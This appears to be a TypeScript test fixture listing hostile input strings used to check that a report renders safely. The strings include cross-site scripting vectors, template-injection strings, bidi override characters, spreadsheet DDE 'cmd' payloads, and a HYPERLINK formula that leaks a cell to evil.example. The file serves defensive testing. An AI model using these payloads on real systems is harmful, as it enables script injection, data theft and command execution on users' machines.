/**
 * Hostile strings for the security test: each would run script, inject markup, break out of a
 * template or an element, reorder text, or execute in a spreadsheet if a report mishandled it.
 * Payloads that succeed set window.__pwned (and open a dialog), which the test asserts never happens.
 */
export const PAYLOADS = [
  '<script>window.__pwned=1;alert(1)</script>',
  '<img src=x onerror="window.__pwned=2;alert(2)">',
  '<svg onload="window.__pwned=3;alert(3)"></svg>',
  '<a href="javascript:window.__pwned=4;alert(4)">click me</a>',
  '</textarea><script>window.__pwned=5;alert(5)</script>',
  '</script><script>window.__pwned=6;alert(6)</script>',
  "{{constructor.constructor('window.__pwned=7;alert(7)')()}}",
  '{{{ raw }}} {{#each this}}{{this}}{{/each}} {{> header}}',
  '\u202Egnp.exe \u2066isolated\u2069 \u202Dforced',
  '"><script>window.__pwned=10;alert(10)</script>',
  "'><img src=x onerror=window.__pwned=11;alert(11)>",
  '<iframe src="javascript:window.__pwned=12;alert(12)"></iframe>',
  '<!-- <script>window.__pwned=13</script> -->',
  ']]><script>window.__pwned=14;alert(14)</script>',
  '<style>body{display:none}</style>',
  '<body onload=window.__pwned=16;alert(16)>',
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1 </SCRIPT > <details open ontoggle=window.__pwned=21;alert(21)>',
  '<img/src=x/onerror=window.__pwned=23;alert(23)>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal ${...} is the payload
  '\r=2+2 ${alert(22)} `${window.__pwned=22}` \u2028\u2029 <math><mi xlink:href="javascript:alert(22)">x</mi></math>',
];
